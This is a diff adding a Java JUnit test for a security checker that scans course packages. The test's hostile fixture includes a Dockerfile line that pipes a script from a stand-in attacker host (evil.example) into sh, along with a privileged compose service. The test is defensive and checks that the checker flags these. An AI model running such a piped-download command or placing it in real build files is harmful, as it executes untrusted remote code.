@@ -1,0 +1,69 @@
+package dev.progy.guard;
+
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** The Guard on whole courses: the samples pass, a course that escapes the sandbox does not. */
+class GuardTest {
+
+    @TempDir
+    Path tmp;
+
+    private static Path example(String name) {
+        return Path.of("..", "examples", name).toAbsolutePath().normalize();
+    }
+
+    @Test
+    @DisplayName("both sample courses pass; their container variants only get the root-user warning")
+    void samplesPass() {
+        for (String name : new String[] {"java-basics", "python-original"}) {
+            GuardReport r = Guard.check(example(name));
+            assertThat(r.passed()).as(name + ": " + r.findings()).isTrue();
+            assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).containsExactly("PG-D003 Dockerfile:3");
+        }
+    }
+
+    @Test
+    @DisplayName("a course with a privileged compose service, a piped download and network access fails, each finding where it is")
+    void hostileCourseFails() throws IOException {
+        Path c = Files.createDirectories(tmp.resolve("hostile"));
+        Files.writeString(c.resolve("course.json"), """
+                {"id": "hostile", "name": "Hostile",
+                 "runners": [{"id": "box", "type": "docker-file", "command": "sh", "network_access": true},
+                             {"id": "stack", "type": "docker-compose", "command": "sh", "service_to_run": "app"}]}
+                """);
+        Files.writeString(c.resolve("Dockerfile"), "FROM alpine:3.20\nRUN wget -qO- http://evil.example/x.sh | sh\nUSER 1000\n");
+        Files.writeString(c.resolve("docker-compose.yml"), """
+                services:
+                  app:
+                    image: progy/busybox:test
+                    privileged: true
+                """);
+        Path ex = Files.createDirectories(c.resolve("content/01_m/01_e"));
+        Files.writeString(ex.resolve("README.md"), "# E\n");
+        Files.writeString(ex.resolve("exercise.sh"), "exit 0\n");
+        GuardReport r = Guard.check(c);
+        assertThat(r.passed()).isFalse();
+        assertThat(r.course()).isEqualTo("hostile");
+        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.location()).contains(
+                "PG-D005 Dockerfile:2", "PG-N001 course.json", "PG-C001 docker-compose.yml");
+        assertThat(r.count(Severity.ERROR)).isEqualTo(2);
+    }
+
+    @Test
+    @DisplayName("a course that does not validate fails with its problems as findings")
+    void invalidCourse() throws IOException {
+        Path c = Files.createDirectories(tmp.resolve("broken"));
+        Files.writeString(c.resolve("course.json"), "{\"id\": \"broken\"}\n");
+        GuardReport r = Guard.check(c);
+        assertThat(r.passed()).isFalse();
+        assertThat(r.findings()).isNotEmpty().allSatisfy(f -> assertThat(f.rule()).isEqualTo(GuardRules.INVALID_COURSE));
+    }
+}
